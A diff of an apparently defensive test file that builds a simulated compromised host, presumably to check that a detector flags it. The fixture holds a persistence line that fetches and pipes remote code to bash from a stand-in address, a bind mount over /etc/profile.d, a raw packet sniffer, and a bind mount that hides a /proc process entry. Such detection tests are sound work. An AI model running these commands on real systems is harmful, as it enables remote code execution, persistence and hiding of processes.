@@ -53,7 +53,9 @@ mkdir -p $work/profile; echo 'wget -qO- http://192.0.2.1/x | bash' > $work/profi
 mount --bind $work/profile /etc/profile.d
 echo data > /dev/planted.txt
 python3 -c 'import socket,time; s=socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768); time.sleep(300)' &
-mkdir -p $work/empty; sleep 0.5; mount --bind $work/empty /proc/$covered
+for n in $(seq 200); do [ "$(wc -l < /proc/net/packet)" -lt 2 ] || break; sleep 0.1; done  # until python has begun
+[ "$(wc -l < /proc/net/packet)" -ge 2 ]
+mkdir -p $work/empty; mount --bind $work/empty /proc/$covered
 """
 
 #: check -> what its sentence must name
@@ -105,6 +107,7 @@ def inside(tmp_path, script: str) -> bytes:
         capture_output=True,
         timeout=120,
         stdin=subprocess.DEVNULL,
+        cwd="/",  # not below the /tmp that is covered there: a python3 that looks into its folder would not start
         env={**os.environ, "PROBE": str(probe)},
     )
     assert done.returncode == 0, done.stderr.decode()
